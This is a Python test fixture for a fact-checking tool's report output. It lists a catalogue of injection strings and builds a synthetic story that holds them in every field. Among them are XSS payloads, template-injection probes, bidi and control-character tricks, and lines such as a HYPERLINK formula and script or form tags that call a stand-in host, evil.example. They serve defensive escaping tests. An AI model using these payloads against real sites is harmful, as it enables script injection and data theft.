"""What an article, a file's name or a speaker may hold to break out of the page, and a story made of it."""

import dataclasses
import datetime

from factcheck.model import (
    Attribution,
    Claim,
    Fact,
    Finding,
    Outcome,
    Position,
    Skipped,
    Source,
    Span,
    Value,
    When,
)

STRINGS: dict[str, str] = {
    "script": "<script>window.broken = 1</script>",
    "script, other case": "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "end of script": "</script><script>window.broken = 1</script>",
    "end of JSON island": "</script><img src=x onerror=window.broken=1>",
    "end of style": "</style><style>body{background:url(//evil.example/css)}</style>",
    "end of textarea": "</textarea></title><script>window.broken = 1</script>",
    "comment": "<!--<script>window.broken = 1//--><!--",
    "image": '<img src="https://evil.example/pixel.gif" onerror="window.broken = 1">',
    "svg": "<svg onload=window.broken=1><script>window.broken = 1</script></svg>",
    "iframe": '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
    "link": '<a href="javascript:window.broken=1">click</a>',
    "javascript": "javascript:window.broken=1",
    "data": "data:text/html,<script>window.broken = 1</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=q autofocus onfocus=window.broken=1>',
    "quote out of attribute": '" autofocus onfocus="window.broken=1" x="',
    "apostrophe out of attribute": "' onmouseover='window.broken=1' x='",
    "no quote": "x onclick=window.broken=1",
    "details": "<details open ontoggle=window.broken=1>",
    "template": "{{ 7 * 7 }}{% raw %}{{ config.items() }}${7*7}#{7*7}<%= 7*7 %>",
    "entity": "&lt;script&gt;window.broken = 1&lt;/script&gt; &#60;b&#62;",
    "mark": "<mark class='p1'>14</mark>",
    "cdata": "<![CDATA[<script>window.broken = 1</script>]]>",
    "object": "<object data='javascript:window.broken=1'></object><embed src=//evil.example/e>",
    "math": "<math><mtext><script>window.broken = 1</script></mtext></math>",
    "right to left": "paid \u202e000,1\u202c dollars",
    "isolate": "\u2067never closed",
    "zero width": "1\u200b4\u200c0\u2060\ufeff",
    "null and bell": "a\x00b\x07c\x1b[31m",
    "lone surrogate": "half \ud83d a pair",
    "line separators": "one\u2028two\u2029three",
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇺🇳",
    "combining": "Z" + "\u0336\u0489" * 30,
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "address": "#f1?verdict=conflict&q=<script>",
    "prototype": "__proto__",
    "long": "y" * 5000,
}


def _source(n: int, evil: str) -> Source:
    text = f"{evil}\n\nThe {evil} office said 14 of them were {evil} hurt. {evil}\r\nMore {evil}\n"
    return Source(
        id=f"s{n}",
        path=f"{evil}.txt",
        name=evil,
        text=text,
        title=evil,
        title_span=Span(0, len(evil)),
        publisher=evil,
        published=datetime.date(2031, 5, n),
    )


def _claim(source: Source, evil: str) -> Claim:
    text = source.text
    start = text.index("14 of", len(evil))
    sentence = Span(text.index("The ", len(evil)), text.index(" hurt.") + 6)
    who = Attribution(
        evil,
        evil,
        sentence.start + 4,
        sentence.start + 4 + len(evil),
        evil,
        "denies",
        Attribution(evil, evil, 0, len(evil)),
    )
    value = Value("14", 14, 14 if source.id == "s1" else None, "=", evil, evil)
    return Claim(
        id=f"c{source.id[1:]}",
        source=source.id,
        start=start,
        end=start + 2,
        sentence=sentence,
        text=text[sentence.start : sentence.end],
        kind="count",
        value=dataclasses.replace(value, text="14"),
        subject=evil,
        predicate=evil,
        place=(evil,),
        when=When(evil, evil),
        attribution=who,
        head=evil,
        population=(evil,),
        of=evil,
        event=evil,
        hedges=(evil,),
    )


def story(evil: str) -> Outcome:
    """Two articles that say ``evil`` wherever an article, a name or a finding can say anything."""
    sources = (_source(1, evil), _source(2, evil))
    claims = tuple(_claim(s, evil) for s in sources)
    positions = (Position(evil, ("c1",), 1, (evil,)), Position(evil, ("c2",), 1, (evil,)))
    fact = Fact("f1", evil, "count", ("c1", "c2"), "conflict", "error", positions, (evil,), (evil,))
    findings = (
        Finding(evil, "error", evil, "s1", 0, len(evil), "f1", ("c1",), evil, "x1"),
        Finding(evil, "warning", evil, "s2", 0, len(evil), None, (), evil, "x2", evil),
    )
    made = datetime.datetime(2031, 5, 14, 7, 30, tzinfo=datetime.UTC)
    return Outcome(sources, claims, (fact,), findings, (Skipped(evil, evil),), made)
